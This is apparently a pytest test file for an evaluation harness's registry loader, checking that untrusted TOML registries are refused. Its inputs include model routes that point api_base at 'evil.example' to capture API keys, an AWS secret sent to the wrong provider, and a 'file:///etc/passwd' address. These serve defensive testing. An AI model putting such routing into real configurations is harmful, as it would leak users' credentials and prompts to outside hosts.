"""A user registry adds names. An untrusted one may not lead prompts or keys elsewhere."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest
from program import run_here

from core_harness.errors import RegistryError
from core_harness.plugins.registries import open_registry
from core_harness.registry.loading import shipped_registry
from core_harness.testing import TestServer

SECRET = "sk-of-a-careful-person"

MINE = """schema_version = 1
[datasets.mine]
summary = "my screen"
component = "table"
parameters = { path = "screen.csv" }
published = "2026-05"
[strategies.my-vote]
summary = "mine"
retriever = "kg"
organizer = "contrast"
aggregator = "vote"
parameters = { aggregator = { shrinkage = 2 } }
[models.my-qwen]
summary = "Qwen"
parameters = { max_tokens = 256 }
routes = [{ model = "together_ai/Qwen/Qwen3.5-9B", key = "TOGETHERAI_API_KEY", logprobs = true }]
"""


def model(name: str, **route: str) -> str:
    said = ", ".join(f'{key} = "{value}"' for key, value in route.items())
    return f'schema_version = 1\n[models."{name}"]\nsummary = "m"\nroutes = [{{ {said}, logprobs = true }}]\n'


def written(folder: Path, text: str) -> Path:
    (path := folder / "registry.toml").write_text(text)
    return path


def test_it_adds_names_to_the_shipped_ones(tmp_path: Path) -> None:
    registry = open_registry(written(tmp_path, MINE))
    shipped = shipped_registry()
    assert set(registry.datasets) == {*shipped.datasets, "mine"}
    assert set(registry.strategies) == {*shipped.strategies, "my-vote"}
    assert set(registry.models) == {*shipped.models, "my-qwen"}
    assert registry.layer == shipped.layer
    assert "mine" not in shipped_registry().datasets
    assert open_registry(None) is shipped


@pytest.mark.parametrize(
    ("text", "objection"),
    [
        (
            model("qwen", model="together_ai/x", key="TOGETHERAI_API_KEY"),
            "model 'qwen' is a shipped name",
        ),
        (
            model("qwen", model="openai/x", key="OPENAI_API_KEY", api_base="https://evil.example/v1"),
            "model 'qwen' would send prompts and OPENAI_API_KEY to evil.example",
        ),
        (
            model("harmless", model="openai/x", key="OPENAI_API_KEY", api_base="https://evil.example"),
            "model 'harmless' would send prompts and OPENAI_API_KEY to evil.example",
        ),
        (
            model("keyless", model="hosted_vllm/x", api_base="https://evil.example/v1"),
            "model 'keyless' would send prompts to evil.example",
        ),
        (
            model("crossed", model="deepinfra/x", key="OPENAI_API_KEY"),
            "model 'crossed' would send OPENAI_API_KEY to deepinfra",
        ),
        (
            model("crossed", model="deepinfra/x", key="AWS_SECRET_ACCESS_KEY"),
            "would send AWS_SECRET_ACCESS_KEY to deepinfra",
        ),
        (
            MINE.replace("datasets.mine", 'datasets."perturbqa/k562"'),
            "dataset 'perturbqa/k562' is a shipped name",
        ),
        (MINE.replace("strategies.my-vote", "strategies.voting"), "strategy 'voting' is a shipped name"),
    ],
)
def test_what_an_untrusted_registry_may_not_do(text: str, objection: str, tmp_path: Path) -> None:
    path = written(tmp_path, text)
    with pytest.raises(RegistryError) as refused:
        open_registry(path)
    assert objection in str(refused.value)
    assert "--trust-registry" in str(refused.value)
    trusted = open_registry(path, trusted=True)
    assert trusted != shipped_registry()


@pytest.mark.parametrize(
    ("text", "error"),
    [
        (
            MINE.replace("max_tokens = 256", 'api_base = "https://evil.example"'),
            "'api_base' is said by a route",
        ),
        (MINE.replace("max_tokens = 256", 'key_variable = "OPENAI_API_KEY"'), "'key_variable' is said by a"),
        (MINE.replace("max_tokens = 256", 'model = "openai/gpt-5.6"'), "'model' is said by a route"),
        (
            model("m", model="huggingface/https://evil.example/v1"),
            "line 4, key models.m.routes.0.model: a model's name holds no address",
        ),
        (model("m", model="openai/x", api_base="https://me:pass@evil.example"), "api_base"),
        (model("m", model="openai/x", api_base="file:///etc/passwd"), "api_base"),
        (
            MINE.replace("{ aggregator = { shrinkage = 2 } }", '{ llm = { api_base = "http://e" } }'),
            "strategies.my-vote.parameters.llm",
        ),
        ('llm = "mine"\nschema_version = 1', "line 1, key llm: there is no such key"),
        (MINE.replace("schema_version = 1", ""), "schema_version: field required"),
        ("[", "not valid TOML"),
    ],
)
def test_what_no_registry_may_hold(text: str, error: str, tmp_path: Path) -> None:
    path = written(tmp_path, text)
    for trusted in (False, True):
        with pytest.raises(RegistryError) as refused:
            open_registry(path, trusted=trusted)
        assert error in str(refused.value)
        assert str(refused.value).startswith(str(path))
        assert "\n" not in str(refused.value)


def test_a_file_that_cannot_be_read(tmp_path: Path) -> None:
    with pytest.raises(RegistryError, match=r"the registry .*none\.toml cannot be read"):
        open_registry(tmp_path / "none.toml")
    (tmp_path / "bytes.toml").write_bytes(b"\xff\xfe")
    with pytest.raises(RegistryError, match="cannot be read"):
        open_registry(tmp_path / "bytes.toml")


def evaluate(folder: Path, environment: dict[str, str], *arguments: str) -> subprocess.CompletedProcess[str]:
    options = ("-s", "isolated", "--limit", "5", *arguments)
    return run_here("eval", *options, cwd=folder, CORE_HARNESS_CACHE=str(folder / "cache"), **environment)


def test_a_cloned_folder_does_not_get_the_key(tmp_path: Path) -> None:
    with TestServer() as evil, TestServer() as own:
        attack = model(
            "qwen", model="together_ai/Qwen/Qwen3.5-9B", key="TOGETHERAI_API_KEY", api_base=evil.url
        )
        written(tmp_path, attack)
        person = {"TOGETHERAI_API_KEY": SECRET, "TOGETHER_AI_API_BASE": own.url}

        # a file in the folder is not read: the shipped alias is asked, where the person's environment says
        done = evaluate(tmp_path, person, "--model", "qwen")
        assert done.returncode == 0, done.stderr
        assert (evil.stats.requests, own.stats.requests > 0) == (0, True)
        sent = own.stats.requests

        # named, it is refused, and says who would get what
        done = evaluate(tmp_path, person, "--model", "qwen", "--registry", "registry.toml")
        assert done.returncode == 6
        assert done.stdout == ""
        host = evil.url.split("/")[2]
        assert done.stderr == (
            "Error: registry.toml: model 'qwen' would send prompts and TOGETHERAI_API_KEY to "
            f"{host}; if you know and trust this file, add --trust-registry; nothing was sent\n"
        )
        assert (evil.stats.requests, own.stats.requests) == (0, sent)

        # trusted, it is asked, and the host is said before
        trust = ("--model", "qwen", "--registry", "registry.toml", "--trust-registry")
        done = evaluate(tmp_path, person, *trust)
        assert done.returncode == 0, done.stderr
        assert done.stderr.startswith(f"isolated: asking together_ai/Qwen/Qwen3.5-9B at {host}")
        assert evil.stats.requests > 0
        assert own.stats.requests == sent


def test_a_private_server_with_its_key_and_price(tmp_path: Path) -> None:
    with TestServer(faults={"401": 1.0}) as server:  # it says which key it got
        lines = model("lab", model="openai/m", key="LAB_TOKEN", api_base=server.url).replace(
            "logprobs", 'price = { prompt = 1, completion = 2, date = "2026-11-01" }, logprobs'
        )
        written(tmp_path, lines)
        arguments = ("--model", "lab", "--registry", "registry.toml", "--trust-registry", "--max-cost", "1")
        without = evaluate(tmp_path, {"OPENAI_API_KEY": SECRET}, *arguments)
        assert "model 'lab' needs LAB_TOKEN in the environment; nothing was sent" in without.stderr
        assert server.stats.requests == 0
        dry = evaluate(tmp_path, {"LAB_TOKEN": "lab-secret"}, *arguments, "--dry-run")
        assert "at prices of 2026-11-01" in dry.stdout, dry.stderr
        done = evaluate(tmp_path, {"OPENAI_API_KEY": SECRET, "LAB_TOKEN": "lab-secret"}, *arguments)
    # the lab's key was sent, not the provider's, and the server's echo of it is blacked out
    assert "Incorrect API key provided: [LAB_TOKEN]" in done.stderr
    assert "lab-secret" not in done.stderr
    assert SECRET not in done.stderr


def test_names_of_a_user_registry_on_the_command_line(tmp_path: Path) -> None:
    path = written(tmp_path, MINE)
    listed = run_here("models", "--registry", str(path), "--json", cwd=tmp_path)
    *_, last = json.loads(listed.stdout)["models"]
    assert last["name"] == "my-qwen"
    (tmp_path / "screen.csv").write_text(
        "perturbation,gene,label,split\nA,G,1,train\nB,G,0,train\nC,G,1,test\nD,G,0,test\n"
    )
    arguments = ("eval", "--dataset", "mine", "--strategy", "constant", "--registry", str(path))
    done = run_here(*arguments, cwd=tmp_path, CORE_HARNESS_CACHE=str(tmp_path / "cache"))
    assert done.returncode == 0, done.stderr
